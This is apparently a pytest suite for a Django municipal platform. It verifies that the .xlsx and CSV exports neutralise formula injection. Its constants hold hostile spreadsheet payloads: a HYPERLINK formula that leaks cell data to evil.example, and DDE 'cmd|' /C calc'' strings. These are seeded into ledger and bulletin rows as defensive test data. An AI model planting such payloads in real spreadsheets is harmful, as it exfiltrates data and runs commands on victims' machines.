"""Spreadsheet exports cannot run a formula (OWASP "CSV injection"): every .xlsx
the platform writes (the sanitation ledgers, the daily and monthly bulletins) is
read back with openpyxl and checked cell by cell; CSV goes through the same helper.

The platform writes no CSV today (route and ledger imports read CSV and .xlsx, they
do not write them); ``citymgmt.exports.csv_row`` is the one way to do it.
"""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from cases import clock
from cases.models import Status
from citymgmt.exports import csv_row, looks_like_formula, xlsx_cell, xlsx_row
from org.models import Department, Region
from reports import stats
from reports.bulletins import generate_daily
from sanitation.models import FrontageLetter, MuckCompany, MuckVehicle, RoadSection
from tests.cases.conftest import at, case_in
from tests.factories import make_person

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
CMD = "+1+cmd|' /C calc'!A0"
AT_SIGN = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
SPACED = "   =1+1"
TAB = "\t=1+1"
CR = "\r=1+1"
PAYLOADS = [HYPERLINK, CMD, AT_SIGN, MINUS, SPACED, TAB, CR]
HARMLESS = ["井盖缺失", "1-2 号楼", "a=b", "王@某", "", "'=already quoted"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_can_run(book) -> list:
    """No cell of ``book`` is a formula, and every text cell that looks like one is a
    string cell with the quote prefix (Excel keeps it text even when edited)."""
    every = cells(book)
    assert every, "an empty workbook proves nothing"
    formulas = [(c.coordinate, c.value) for c in every if c.data_type == "f"]
    assert formulas == []
    for cell in every:
        if isinstance(cell.value, str) and looks_like_formula(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    return [c.value for c in every]


def read(response):
    assert response.status_code == 200 and response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content))


# --- the helper --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_looking_text_is_recognised(text):
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert not looks_like_formula(text)
    assert xlsx_cell(Workbook().active, text) == text


def test_xlsx_cells_keep_the_text_as_typed_and_numbers_as_numbers(tmp_path):
    book = Workbook()
    sheet = book.active
    numbers = [-5, 3.25, Decimal("-1.5"), date(2026, 11, 18), True, None]
    sheet.append(xlsx_row(sheet, PAYLOADS))
    sheet.append(xlsx_row(sheet, numbers))
    book.save(tmp_path / "out.xlsx")

    again = load_workbook(tmp_path / "out.xlsx")
    values = assert_no_formula_can_run(again)
    text_row = [c.value for c in again.active[1]]
    # The visible text is the stored text: no apostrophe added, nothing cut.
    assert text_row[:5] == [HYPERLINK, CMD, AT_SIGN, MINUS, SPACED]
    assert all(isinstance(v, str) and v.endswith("=1+1") for v in text_row[5:])
    number_row = again.active[2]
    assert [c.data_type for c in number_row[:3]] == ["n", "n", "n"]
    assert number_row[0].value == -5 and number_row[2].value == -1.5
    assert number_row[3].is_date and number_row[4].value is True
    assert len(values) == 2 * len(PAYLOADS)  # 7 texts, then 6 cells of numbers and one empty


def test_a_plain_openpyxl_append_would_have_written_a_live_formula():
    """Why the helper exists: openpyxl turns text starting with "=" into a formula."""
    sheet = Workbook().active
    sheet.append([HYPERLINK])
    assert sheet["A1"].data_type == "f"


def test_csv_cells_get_an_apostrophe_and_numbers_stay_numbers():
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(csv_row([*PAYLOADS, *HARMLESS, -5, Decimal("2.5")]))

    back = next(csv.reader(io.StringIO(out.getvalue())))

    assert back[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert back[len(PAYLOADS) : -2] == HARMLESS
    assert back[-2:] == ["-5", "2.5"]


# --- the sanitation ledgers ----------------------------------------------------------------------


@pytest.fixture
def assessor(db):
    return make_person("assessor", ["assessor"])


@pytest.fixture
def hostile_ledgers(world):
    """Ledger rows whose every free-text field carries a formula."""
    city = world.city
    RoadSection.objects.create(
        code="R-EVIL",
        name=HYPERLINK,
        grade=RoadSection.Grade.MAIN,
        control_level=RoadSection.Control.STRICT,
        length_m=Decimal("120.5"),
        area_m2=Decimal("900"),
        cleaning_company=CMD,
        district=city.districts[0],
        street=city.streets[0],
        community=city.communities[0],
        grid=city.grids[1],
    )
    FrontageLetter.objects.create(
        shop_name=AT_SIGN,
        address=SPACED,
        licence_no=TAB,
        responsible=MINUS,
        phone="=1+1",
        signed_on=date(2026, 3, 1),
        district=city.districts[0],
    )
    company = MuckCompany.objects.create(
        name=CMD, licence_no="=1+1+cmd|' /C calc'!A0", contact=HYPERLINK[:64], district=city.districts[0]
    )
    MuckVehicle.objects.create(company=company, plate="@A12345", capacity_t=Decimal("-1.5"))


@pytest.mark.parametrize(
    ("ledger", "expected"),
    [
        ("roads", [HYPERLINK, CMD]),
        ("frontage", [AT_SIGN, SPACED, MINUS, "=1+1"]),
        ("muck-companies", [CMD, "=1+1+cmd|' /C calc'!A0", HYPERLINK[:64]]),
        ("muck-vehicles", ["@A12345", "=1+1+cmd|' /C calc'!A0"]),  # the company's code, through the foreign key
    ],
)
def test_ledger_exports_write_formulas_as_text(client, hostile_ledgers, assessor, ledger, expected):
    client.force_login(assessor)

    book = read(client.get(f"/sanitation/ledgers/{ledger}/export/"))

    values = assert_no_formula_can_run(book)
    for text in expected:
        assert text in values, (ledger, text)


def test_the_ledger_export_keeps_numbers_as_numbers(client, hostile_ledgers, assessor):
    client.force_login(assessor)

    sheet = read(client.get("/sanitation/ledgers/muck-vehicles/export/")).active

    header = [c.value for c in sheet[1]]
    capacity = sheet.cell(row=2, column=header.index("核定载重（吨）") + 1)
    assert capacity.data_type == "n" and capacity.value == -1.5


def test_an_exported_ledger_imports_back_with_the_same_text(client, hostile_ledgers, assessor):
    """The round trip people use to bulk-edit: the text comes back exactly, no apostrophe."""
    client.force_login(assessor)
    exported = client.get("/sanitation/ledgers/roads/export/").content
    RoadSection.objects.filter(code="R-EVIL").update(name="改过的名字", cleaning_company="")

    upload = SimpleUploadedFile("roads.xlsx", exported, content_type=XLSX)
    checked = client.post("/sanitation/ledgers/roads/import/", {"step": "check", "file": upload})
    assert checked.status_code == 200 and checked.context["check"].ok
    client.post("/sanitation/ledgers/roads/import/", {"step": "import", "token": checked.context["token"]})

    road = RoadSection.objects.get(code="R-EVIL")
    assert (road.name, road.cleaning_company) == (HYPERLINK, CMD)


# --- the bulletins ----------------------------------------------------------------------------------


@pytest.fixture
def hostile_names(world, media_root):
    """A district, a department and a new department named like formulas, then cases."""
    Region.objects.filter(pk=world.city.districts[0].pk).update(name=CMD)
    Department.objects.filter(pk=world.dept_a.pk).update(name=HYPERLINK)
    Department.objects.create(code="zz", name=AT_SIGN, kind=Department.Kind.HOUSING)
    case_in(Status.CLOSED, world, moment=at("2026-11-18 09:00"))
    case_in(Status.DISPATCHED, world, grid=5, moment=at("2026-11-18 09:10"))
    return world


def test_the_monthly_bulletin_writes_formulas_as_text(client, hostile_names):
    stats.rebuild()
    client.force_login(hostile_names.city_leader)

    book = read(client.get("/reports/bulletins/monthly.xlsx?month=2026-11"))

    values = assert_no_formula_can_run(book)
    assert CMD in values and HYPERLINK in values and AT_SIGN in values
    scores = [c for c in cells(book) if c.number_format == "0.00%" and c.value is not None]
    assert scores and all(c.data_type == "n" for c in scores)


def test_the_daily_bulletin_writes_formulas_as_text(client, hostile_names):
    with clock.acting_at(at("2026-11-19 06:30")):
        bulletin = generate_daily()
    client.force_login(hostile_names.city_leader)

    book = read(client.get(f"/reports/bulletins/daily/{bulletin.day.isoformat()}.xlsx"))

    values = assert_no_formula_can_run(book)
    assert CMD in values and HYPERLINK in values
    flows = book.worksheets[0]
    assert [c.data_type for c in flows[2][2:]] == ["n", "n", "n"]
